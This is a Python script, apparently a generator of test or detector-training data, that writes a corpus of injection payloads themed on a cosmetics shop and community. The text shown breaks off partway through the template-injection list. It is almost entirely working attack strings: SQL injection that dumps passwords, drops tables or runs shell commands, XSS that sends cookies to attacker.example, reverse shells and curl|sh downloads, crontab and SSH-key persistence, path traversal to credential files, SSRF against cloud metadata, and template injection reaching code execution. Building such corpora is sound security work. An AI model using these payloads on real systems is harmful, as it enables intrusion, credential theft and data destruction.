#!/usr/bin/env python3
"""Attack corpus for the cosmetics theme (beauty & skincare shop + community).
Standard library only. Writes attacks.jsonl next to this file.
Every value is hand-written except the small templated tail of each category, which
only joins a hand-written theme prefix to a hand-written payload or applies one encoding."""
import json
import os
import random
import urllib.parse

SEED = 11102
PREFIX = "hab1"

# ------------------------------------------------------------------ sqli (72 literals)
SQLI = [
    ("plain-boolean", "' OR '1'='1"),
    ("plain-boolean-comment", "x' or 1=1-- -"),
    ("plain-union-select", "' UNION SELECT username, password_hash FROM users--"),
    ("review-union-select", "Love this serum' UNION SELECT email, password FROM customers-- -"),
    ("shade-union-select", "220 Natural Beige' UNION ALL SELECT NULL,NULL,concat(login,0x3a,pass) FROM admin#"),
    ("batch-numeric-boolean", "39A401' AND 1=1 AND 'a'='a"),
    ("order-id-numeric-or", "48213 OR 1=1"),
    ("order-id-numeric-union", "48213 UNION SELECT 1,card_number,cvv,4 FROM payments"),
    ("search-stacked-drop", "niacinamide'; DROP TABLE products;--"),
    ("search-stacked-update", "retinol'; UPDATE users SET role='admin' WHERE email='mira@attacker.example';--"),
    ("mysql-sleep-time", "spf 50' AND SLEEP(5)-- -"),
    ("mysql-benchmark-time", "toner' AND BENCHMARK(5000000,MD5('a'))#"),
    ("mysql-if-sleep", "1' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- x"),
    ("mssql-waitfor", "glow'; WAITFOR DELAY '0:0:5'--"),
    ("mssql-xp-cmdshell", "'; EXEC master..xp_cmdshell 'ping 203.0.113.7';--"),
    ("mssql-stacked-exec", "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--"),
    ("postgres-pg-sleep", "Lip Oil #02'||pg_sleep(6)||'"),
    ("postgres-stacked-sleep", "12M'; SELECT pg_sleep(5);--"),
    ("postgres-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("postgres-cast-error", "' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"),
    ("oracle-dbms-pipe", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)--"),
    ("oracle-union-dual", "' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("oracle-utl-http", "' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("sqlite-randomblob", "' AND 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--"),
    ("sqlite-master-union", "' UNION SELECT name, sql FROM sqlite_master--"),
    ("mysql-extractvalue-error", "' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -"),
    ("mysql-updatexml-error", "Rosewood' AND updatexml(1,concat(0x7e,database()),1)#"),
    ("mysql-into-outfile", "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("mysql-load-file", "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("mysql-comment-as-space", "'/**/UNION/**/SELECT/**/password/**/FROM/**/users#"),
    ("mysql-versioned-comment", "' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -"),
    ("case-mixing-union", "' uNiOn SeLeCt NuLl,vErSiOn()-- -"),
    ("order-by-probe", "1' ORDER BY 7-- -"),
    ("sort-param-case-when", "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN price ELSE name END)"),
    ("sort-param-mysql-if", "price,IF(1=1,SLEEP(3),0)"),
    ("limit-procedure-analyse", "1 PROCEDURE ANALYSE(extractvalue(1,concat(0x3a,version())),1)"),
    ("note-boolean-blind-substr", "my routine' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a"),
    ("note-boolean-blind-ascii", "x' AND ASCII(SUBSTR((SELECT table_name FROM information_schema.tables LIMIT 1),1,1))>64-- -"),
    ("info-schema-union", "' UNION SELECT table_name,column_name FROM information_schema.columns-- -"),
    ("double-quote-break", "\" OR \"\"=\""),
    ("paren-break", "') OR ('1'='1"),
    ("double-paren-break", "1)) OR 1=1-- -"),
    ("hash-comment-admin", "admin'#"),
    ("admin-login-bypass", "admin'-- "),
    ("like-wildcard-dump", "%' OR name LIKE '%"),
    ("mysql-hex-string", "' UNION SELECT 0x61646d696e,2-- -"),
    ("mysql-char-fn", "' OR username=CHAR(97,100,109,105,110)-- -"),
    ("mssql-char-concat", "' OR name='ad'+'min'--"),
    ("mssql-error-convert", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
    ("mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','SELECT 1')--"),
    ("mssql-dns-exfil", "'; DECLARE @q varchar(99);SET @q='\\\\'+(SELECT TOP 1 password FROM users)+'.attacker.example\\a';EXEC master..xp_dirtree @q;--"),
    ("mysql-dns-exfil", "' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\x'))-- -"),
    ("postgres-dollar-quote", "'; INSERT INTO coupons(code,pct) VALUES ($$FREE100$$,100);--"),
    ("postgres-chr-concat", "' OR name=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--"),
    ("inci-union-select", "Aqua, Glycerin, Niacinamide' UNION SELECT api_key, secret FROM integrations-- -"),
    ("caption-stacked-delete", "#glowup'); DELETE FROM reviews WHERE 1=1;--"),
    ("dupe-or-true", "Pillow Talk ≈ e.l.f.' OR 'x'='x"),
    ("quiz-insert-subquery", "combo', (SELECT password FROM users WHERE id=1))-- -"),
    ("support-update-refund", "order 48213'; UPDATE orders SET refund_amount=9999 WHERE id=48213;--"),
    ("urlencode-union", "%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20users--%20-"),
    ("double-urlencode-or", "%2527%2520OR%25201%253D1--"),
    ("fullwidth-quote-or", "＇ OR 1=1-- -"),
    ("unicode-escape-json", "\\u0027 OR 1=1-- -"),
    ("mysql-backtick-ident", "' UNION SELECT `password` FROM `users`-- -"),
    ("mysql-no-space-parens", "'or(1)=(1)#"),
    ("mysql-newline-space", "'\nUNION\nSELECT\npassword\nFROM\nusers--\n-"),
    ("tab-as-space", "'\tOR\t1=1\t--\t"),
    ("mysql-gtid-subset-error", "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT version())),1)-- -"),
    ("mysql-double-query-error", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("h2-create-alias", "'; CREATE ALIAS EXEC AS 'String e(String c) throws Exception {return new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).next();}'; CALL EXEC('id');--"),
    ("mssql-if-waitfor", "1; IF (SELECT COUNT(*) FROM users WHERE role='admin')>0 WAITFOR DELAY '0:0:4'--"),
    ("hql-subquery", "' and (select count(*) from User u where u.password like 'a%')>0 and ''='"),
]
SQLI_PREFIX = ["Shade 330 ", "Batch 2304B17", "PAO 12M ", "Velvet Matte Lipstick – 112 Rosewood", "niacinamide serum"]
SQLI_TAIL = [
    ("union-select", "' UNION SELECT email,password_hash FROM customers-- -"),
    ("boolean", "' OR 'a'='a"),
    ("time-sleep", "' AND SLEEP(5)-- -"),
    ("pg-sleep", "'||pg_sleep(5)--"),
    ("waitfor", "'; WAITFOR DELAY '0:0:5'--"),
]

# ------------------------------------------------------------------ xss (70 literals)
XSS = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("review-svg-onload", "Holy grail serum!! <svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("caption-img-onerror", "GRWM 💋 <img src=1 onerror=\"location='https://attacker.example/?c='+document.cookie\"> #softglam"),
    ("product-name-script-src", "Cream Blush #07 <script src=https://attacker.example/x.js></script>"),
    ("shade-attr-break", "Fair 10 C\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("single-quote-attr-break", "'><img src=x onerror=alert(1)>"),
    ("double-quote-tag-break", "\"><svg/onload=alert(1)>"),
    ("js-string-break", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-string-break-dq", "\";fetch('https://attacker.example/'+localStorage.token);//"),
    ("script-close-break", "</script><script>alert(1)</script>"),
    ("textarea-break", "</textarea><img src=x onerror=alert(1)>"),
    ("title-break", "</title><svg onload=alert(1)>"),
    ("iframe-javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("a-href-javascript", "<a href=\"javascript:alert(1)\">see swatches</a>"),
    ("markdown-link-javascript", "[full INCI list](javascript:alert(document.cookie))"),
    ("markdown-image-onerror", "![swatch](x\" onerror=\"alert(1))"),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>PR package</marquee>"),
    ("object-data-js", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-data-uri", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("form-action-phish", "<form action=https://attacker.example/steal><input name=password placeholder='Re-enter password'><button>Login</button></form>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"),
    ("svg-set-onbegin", "<svg><set attributeName=x onbegin=alert(1)>"),
    ("math-xlink-href", "<math><mi xlink:href=\"javascript:alert(1)\">tap for swatches</mi></math>"),
    ("case-mixing-script", "<ScRiPt>alert(1)</sCrIpT>"),
    ("nested-script-filter-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("slash-separator", "<svg/onload=alert`1`>"),
    ("tab-in-javascript-uri", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("entity-javascript-uri", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">shop</a>"),
    ("hex-entity-onerror", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("urlencode-script", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("double-urlencode-img", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("unicode-escape-json", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("fullwidth-angle", "＜script＞alert(1)＜/script＞"),
    ("overlong-utf8-lt", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("percent-u-encoding", "%u003Csvg onload=alert(1)%u003E"),
    ("style-expression-legacy", "<div style=\"width:expression(alert(1))\">glow</div>"),
    ("style-import-exfil", "<style>@import 'https://attacker.example/leak.css';</style>"),
    ("css-attr-exfil", "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("link-import", "<link rel=import href=\"https://attacker.example/x.html\">"),
    ("angular-template-expr", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template-expr", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("alpine-x-init", "<div x-data x-init=\"fetch('//attacker.example/?'+document.cookie)\"></div>"),
    ("htmx-hx-get", "<button hx-get=\"https://attacker.example/payload\" hx-trigger=\"load\" hx-swap=\"outerHTML\">ok</button>"),
    ("jquery-dom-sink", "<img src=x onerror=$.getScript('//attacker.example/j.js')>"),
    ("eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("settimeout-string", "<svg onload=setTimeout('al'+'ert(1)')>"),
    ("import-dynamic", "<svg onload=import('//attacker.example/m.js')>"),
    ("top-bracket-access", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("xml-namespace-script", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    ("cdata-comment-break", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("dupe-list-table-cell", "| Luxury | Dupe |\n|---|---|\n| Dior Lip Glow | <img src=x onerror=alert(1)> |"),
    ("inci-list-svg", "Aqua, Glycerin, <svg><script>alert(1)</script></svg>Phenoxyethanol"),
    ("batch-code-script", "Batch 39A401<script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
    ("quiz-bio-onpointer", "acne & rosacea nerd <p onpointerenter=alert(1)>hover me</p>"),
    ("support-note-onanimation", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=alert(1)>refund pls</b>"),
    ("hashtag-javascript-link", "<a href=\"JaVaScRiPt:alert(1)\">#glassskin</a>"),
    ("data-uri-link", "<a href=\"data:text/html,<script>alert(document.domain)</script>\">before/after</a>"),
    ("srcset-onerror", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("template-shadow-root", "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>"),
    ("xss-polyglot-style", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
]
XSS_PREFIX = ["GRWM 💋 ", "Review: 5/5 ", "Shade 215 Neutral ", "#kbeauty #glassskin ", "Dupe: e.l.f. Halo Glow = "]
XSS_TAIL = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("script-tag", "<script>fetch('//attacker.example/?'+document.cookie)</script>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
]

# ------------------------------------------------------------------ cmdi (63 literals)
CMDI = [
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-and-whoami", "&& whoami"),
    ("filename-semicolon", "swatch_photo.jpg; rm -rf /var/www/uploads"),
    ("filename-subshell", "routine_$(curl -s http://attacker.example/s.sh | sh).png"),
    ("filename-backtick", "before-after-`id`.jpg"),
    ("batch-code-pipe-nc", "39A401 | nc 203.0.113.5 4444 -e /bin/sh"),
    ("shade-or-curl", "220 || curl http://attacker.example/$(whoami)"),
    ("image-resize-newline", "lipstick.png\nwget -O /tmp/x http://attacker.example/x && chmod +x /tmp/x && /tmp/x"),
    ("bash-reverse-shell", "x; bash -i >& /dev/tcp/203.0.113.10/9001 0>&1"),
    ("python-reverse-shell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.10\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("perl-oneliner", "| perl -e 'exec \"/bin/sh\"'"),
    ("mkfifo-nc", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.4 443 >/tmp/f"),
    ("ifs-space-bypass", ";cat${IFS}/etc/passwd"),
    ("ifs-dollar-9", ";cat$IFS$9/etc/shadow"),
    ("brace-expansion", ";{cat,/etc/passwd}"),
    ("quote-split-bypass", ";w'h'o'am'i"),
    ("backslash-split", ";c\\at /et\\c/pas\\swd"),
    ("variable-glob", ";/???/c?t /???/p?ss??"),
    ("base64-pipe-sh", "; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("hex-printf", "; $(printf '\\x69\\x64')"),
    ("rev-bypass", "; $(echo 'dwssap/cte/ tac' | rev)"),
    ("dollar-at-bypass", ";wh$@oami"),
    ("newline-urlencoded", "toner.jpg%0aid"),
    ("semicolon-urlencoded", "serum.png%3Bcat%20%2Fetc%2Fpasswd"),
    ("sleep-time-blind", "; sleep 10 #"),
    ("ping-time-blind", "| ping -c 10 127.0.0.1"),
    ("dns-exfil-nslookup", "; nslookup $(whoami).attacker.example"),
    ("curl-post-exfil", "; curl -d @/etc/passwd http://attacker.example/up"),
    ("wget-pipe", "`wget -qO- http://attacker.example/x.sh|sh`"),
    ("process-substitution", "; bash <(curl -s http://attacker.example/p)"),
    ("redirect-write-webshell", "; echo '<?php system($_GET[0]);?>' > /var/www/html/shell.php"),
    ("crontab-persist", "; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -"),
    ("ssh-key-append", "; echo ssh-ed25519 AAAAFAKEKEYPLACEHOLDER op@attacker.example >> ~/.ssh/authorized_keys"),
    ("arg-injection-curl-output", "-o /var/www/html/x.php http://attacker.example/shell.txt"),
    ("arg-injection-curl-config", "--config /etc/passwd"),
    ("arg-injection-wget-post-file", "--post-file=/etc/shadow http://attacker.example/"),
    ("arg-injection-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("arg-injection-find-exec", "-exec sh -c 'id > /tmp/o' ;"),
    ("arg-injection-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("arg-injection-ssh-proxycommand", "-oProxyCommand=sh -c 'curl attacker.example|sh' x"),
    ("arg-injection-rsync-e", "-e 'sh -c id' x:/y"),
    ("arg-injection-zip-TT", "-T -TT 'sh -c id #'"),
    ("arg-injection-sendmail-X", "-OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("imagemagick-pipe-filename", "|curl -s http://attacker.example/i|sh"),
    ("arg-injection-git-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("arg-injection-exiftool-if", "-if 'system(\"id\")' swatch.jpg"),
    ("windows-ampersand", "& type C:\\Windows\\win.ini"),
    ("windows-pipe-whoami", "| whoami /all"),
    ("windows-caret-bypass", "& w^h^o^a^m^i"),
    ("windows-cmd-c", "&& cmd.exe /c net user attacker P@ss_placeholder1 /add"),
    ("windows-certutil-download", "& certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("windows-env-substring", "& %COMSPEC:~-7,3% /c whoami"),
    ("powershell-iex", "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("powershell-encoded", "| powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA"),
    ("powershell-iwr", "; iwr http://attacker.example/p.ps1 -OutFile $env:TEMP\\p.ps1; & $env:TEMP\\p.ps1"),
    ("inci-semicolon", "Aqua, Glycerin; cat /proc/self/environ"),
    ("caption-subshell", "glass skin era ✨ $(id) #kbeauty"),
    ("routine-and-chain", "AM: cleanser -> SPF && curl http://attacker.example/r | bash"),
    ("support-backtick", "order #48213 `uname -a`"),
    ("dupe-pipe-mail", "Pillow Talk | mail -s pw op@attacker.example < /etc/passwd"),
    ("lf-in-export-name", "dupes-2024.csv\ncat /etc/hosts"),
    ("null-byte-filename", "avatar.png%00; id"),
]
CMDI_PREFIX = ["swatch_220.jpg", "Batch 2304B17", "routine-export.pdf", "PAO 12M", "shade-photo.heic"]
CMDI_TAIL = [
    ("semicolon-id", "; id"),
    ("subshell-curl", "$(curl http://attacker.example/x|sh)"),
    ("backtick-whoami", "`whoami`"),
    ("pipe-nc", "| nc 203.0.113.8 4444 -e /bin/sh"),
]

# ------------------------------------------------------------------ traversal (45 literals)
TRAV = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("swatch-image-dotdot", "swatches/220/../../../../../etc/shadow"),
    ("product-image-dotdot", "images/products/../../../app/config/database.yml"),
    ("invoice-pdf-dotdot", "invoices/48213/../../../../root/.ssh/id_rsa"),
    ("env-file", "../../.env"),
    ("git-config", "../../../.git/config"),
    ("proc-self-environ", "../../../../proc/self/environ"),
    ("proc-self-cmdline", "/proc/self/cmdline"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("aws-credentials", "../../../../home/app/.aws/credentials"),
    ("windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("windows-mixed-slash", "..\\../..\\../windows/system32/drivers/etc/hosts"),
    ("windows-drive-absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("windows-unc", "\\\\203.0.113.12\\share\\x.png"),
    ("windows-web-config", "..\\..\\web.config"),
    ("urlencode-dotdot", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("urlencode-slash-only", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("double-urlencode", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("percent-u-encoding", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("backslash-urlencoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("nested-dotdot-strip", "....//....//....//etc/passwd"),
    ("nested-backslash-strip", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("dot-dot-semicolon-tomcat", "..;/..;/..;/WEB-INF/web.xml"),
    ("web-inf", "../../WEB-INF/web.xml"),
    ("null-byte-extension", "../../../../etc/passwd%00.jpg"),
    ("null-byte-literal-ext", "../../../etc/passwd\u0000.png"),
    ("file-uri", "file:///etc/passwd"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-zip-wrapper", "zip://uploads/avatar.jpg%23shell.php"),
    ("php-phar-wrapper", "phar://uploads/swatch.jpg/x.php"),
    ("php-data-wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="),
    ("php-expect-wrapper", "expect://id"),
    ("log-poison-include", "../../../../var/log/nginx/access.log"),
    ("fd-include", "/proc/self/fd/3"),
    ("unicode-fullwidth-dots", "．．／．．／．．／etc／passwd"),
    ("export-filename-dotdot", "routine_export/../../../../../etc/hosts"),
    ("avatar-upload-name", "../../../../var/www/html/avatar.php"),
    ("zip-slip-entry", "swatches/../../../../../../tmp/cron.d/evil"),
    ("template-name-dotdot", "emails/../../../../../etc/passwd"),
    ("lang-param-dotdot", "../../../../../../etc/passwd%00en"),
    ("absolute-windows-boot", "C:/boot.ini"),
    ("dotdot-ssh-host-key", "/..//..//..//etc/ssh/ssh_host_ed25519_key"),
]
TRAV_PREFIX = ["swatches/", "invoices/", "uploads/reviews/", "media/batch/", "exports/routines/"]
TRAV_TAIL = [
    ("dotdot-passwd", "../../../../../etc/passwd"),
    ("dotdot-env", "../../../../.env"),
    ("backslash-winini", "..\\..\\..\\..\\windows\\win.ini"),
]

# ------------------------------------------------------------------ ssrf (45 literals)
SSRF = [
    ("plain-imds-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("plain-localhost-admin", "http://127.0.0.1:8080/admin"),
    ("avatar-url-imds", "https://169.254.169.254/latest/user-data"),
    ("import-url-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("azure-imds", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("alibaba-imds", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("oracle-imds", "http://169.254.169.254/opc/v2/instance/"),
    ("digitalocean-imds", "http://169.254.169.254/metadata/v1.json"),
    ("aws-ipv6-imds", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("mixed-radix-ip", "http://0xa9.254.0251.0xfe/"),
    ("short-ip-loopback", "http://127.1:6379/"),
    ("zero-ip", "http://0.0.0.0:9200/_cat/indices"),
    ("ipv6-loopback", "http://[::1]:8500/v1/agent/self"),
    ("ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ipv4-mapped-hex", "http://[0:0:0:0:0:ffff:7f00:1]:2375/containers/json"),
    ("userinfo-confusion", "https://cdn.shop.example@169.254.169.254/latest/meta-data/"),
    ("dns-rebinding-host", "http://127.0.0.1.nip.io:8080/actuator/env"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("fragment-confusion", "http://169.254.169.254#@images.shop.example/swatch.jpg"),
    ("backslash-confusion", "http://images.shop.example\\@127.0.0.1:8080/admin"),
    ("encoded-at", "http://images.shop.example%40169.254.169.254/"),
    ("url-encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/server-status"),
    ("fullwidth-dots", "http://169。254。169。254/latest/meta-data/"),
    ("circled-digits", "http://①②⑦.⓪.⓪.①/admin"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://10.0.0.25:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cop%40attacker.example%3E%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme-localhost", "file://localhost/etc/shadow"),
    ("ftp-internal", "ftp://10.0.0.5/backup.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=shop,dc=internal"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("rfc1918-admin", "http://10.0.0.12:8080/manage/shutdown"),
    ("rfc1918-172", "http://172.16.4.20:9000/minio/admin/v3/info"),
    ("rfc1918-192", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal-service-name", "http://payments-internal:8443/v1/refunds?all=true"),
    ("k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("docker-socket-http", "http://127.0.0.1:2375/images/json"),
    ("consul-localhost", "http://localhost:8500/v1/kv/?recurse"),
    ("spring-actuator", "http://localhost:8080/actuator/heapdump"),
    ("influencer-link-imds", "Link in bio 🔗 http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("review-image-url-internal", "![my swatch](http://10.0.0.7:5984/_all_dbs)"),
    ("import-feed-localhost", "https://localhost:9000/api/v1/users?limit=1000"),
]
SSRF_PREFIX = ["http://169.254.169.254", "http://0xA9FEA9FE", "http://2852039166", "http://[::ffff:a9fe:a9fe]", "http://169.254.169.254.nip.io"]
SSRF_TAIL = [
    ("imds-creds", "/latest/meta-data/iam/security-credentials/"),
    ("imds-userdata", "/latest/user-data"),
    ("imds-identity", "/latest/dynamic/instance-identity/document"),
]

# ------------------------------------------------------------------ code (72 literals)
CODE = [
    ("jinja2-probe-exec", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-config", "{{ config.items() }}"),
    ("jinja2-mro-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja2-lipsum", "Thanks {{ lipsum.__globals__['os'].popen('curl attacker.example|sh').read() }}!"),
    ("jinja2-request-attr-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("twig-filter-exec", "{{ ['id']|filter('system') }}"),
    ("twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("freemarker-api", "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}"),
    ("velocity-runtime", "#set($s=\"\")#set($r=$s.getClass().forName('java.lang.Runtime'))#set($p=$r.getRuntime().exec('id'))$p.waitFor()"),
    ("thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("smarty-php-tag", "{php}system('id');{/php}"),
    ("smarty-system", "{system('cat /etc/passwd')}"),
    ("mako-import-os", "${ __import__('os').popen('id').read() }"),
    ("mako-block", "<% import os %>${ os.system('id') }"),
    ("tornado-import", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("django-settings-leak", "{{ settings.SECRET_KEY }}"),
    ("erb-system", "<%= `id` %>"),
    ("erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("slim-ruby-eval", "#{ %x(id) }"),
    ("handlebars-constructor-chain", """{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"""),
    ("nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("pug-code", "- var x = global.process.mainModule.require('child_process').execSync('id')"),
    ("ejs-outputfunction", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("go-template-dump-context", "{{ printf \"%#v\" . }}"),
    ("razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("jsp-el-runtime", "${pageContext.request.getSession().getServletContext()}"),
    ("java-el-runtime", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
